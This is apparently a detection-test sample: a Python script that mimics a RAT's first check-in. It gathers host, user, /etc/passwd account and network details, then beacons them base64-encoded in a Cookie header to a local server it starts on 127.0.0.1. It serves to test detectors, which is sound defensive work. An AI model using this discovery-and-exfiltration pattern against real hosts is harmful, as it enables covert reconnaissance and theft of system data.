# technique: T1082 T1033 T1087.001 T1016 T1041
"""Host discovery then a beacon carrying the results (T1082, T1033, T1087.001, T1016, T1041).

The first check-in of most Python RATs (and the "system info" stage of
malicious packages): os.uname, getpass.getuser, os.getuid, /etc/passwd
users with a login shell, network interfaces from /proc/net/route and
socket.if_nameindex, /etc/os-release, then the JSON summary is sent as a
cookie header (not a body) of an HTTP GET via urllib with a browser UA.

A good detector raises a medium or higher alert: broad system/account
discovery followed by sending data to the network.
"""
import base64, getpass, http.server, json, os, socket, threading, urllib.request

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"{}")
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
info = {"uname": list(os.uname()), "user": getpass.getuser(), "uid": os.getuid(),
        "ifaces": socket.if_nameindex(), "cwd": os.getcwd()}
try:
    info["users"] = [l.split(":")[0] for l in open("/etc/passwd") if not l.rstrip().endswith(("nologin", "false"))]
    info["routes"] = open("/proc/net/route").read().splitlines()[1:4]
    info["os"] = open("/etc/os-release").read().splitlines()[:2]
    info["groups"] = open("/etc/group").read().count("\n")
    info["homes"] = os.listdir("/home")
except OSError:
    pass
try:
    cookie = base64.urlsafe_b64encode(json.dumps(info).encode()).decode()
    req = urllib.request.Request(f"http://127.0.0.1:{srv.server_address[1]}/static/pixel.gif",
                                 headers={"Cookie": "sid=" + cookie, "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(req, timeout=3).read()
except Exception:
    pass
finally:
    srv.shutdown()
